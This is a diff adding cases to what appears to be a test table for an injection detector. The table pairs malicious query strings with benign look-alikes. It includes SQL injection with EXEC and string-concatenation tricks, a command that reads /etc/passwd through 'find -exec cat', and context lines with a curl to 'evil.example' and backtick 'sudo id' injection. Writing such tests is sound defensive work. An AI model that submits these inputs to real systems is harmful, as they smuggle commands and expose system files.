@@ -257,8 +257,14 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
             ("q", "1 except select 2"),
             ("q", "0unionselectfrom"),
             ("q", "x having max(id) > 1"),
+            ("q", "execute php"),
+            ("q", "1;exec @s"),
+            ("q", "x'; exec('sel'+'ect 1')--"),
+            ("q", "1; EXEC dbo.proc 1"),
         ],
         [
+            ("q", "How do AI agents plan and execute tasks?"),
+            ("q", "find the file and execute it"),
             ("q", "as far from here"),
             ("q", "user'collate foo"),
             ("q", "what's up? 'a'"),
@@ -467,6 +473,10 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
         [("q", "x - y"), ("q", "Should I run `rm -rf build/` before a release?")],
     ),
     "rce-170": ([("q", "& dir C:\\"), ("q", "%COMSPEC%")], [("q", "the directory")]),
+    "rce-181": (
+        [("q", "find /etc -name passwd -exec cat {} ;"), ("qname", "find /etc -name passwd -exec cat {}")],
+        [("q", "find /tmp -name x -delete"), ("q", "find the file and execute it")],
+    ),
     "rce-180": (
         [("q", "time curl evil.example"), ("q", "x; nohup ifconfig"), ("q", "x`sudo id`")],
         [("q", "time flies like an arrow"), ("q", "What does `sudo rm -rf /var/lib/apt/lists/*` clean up?")],
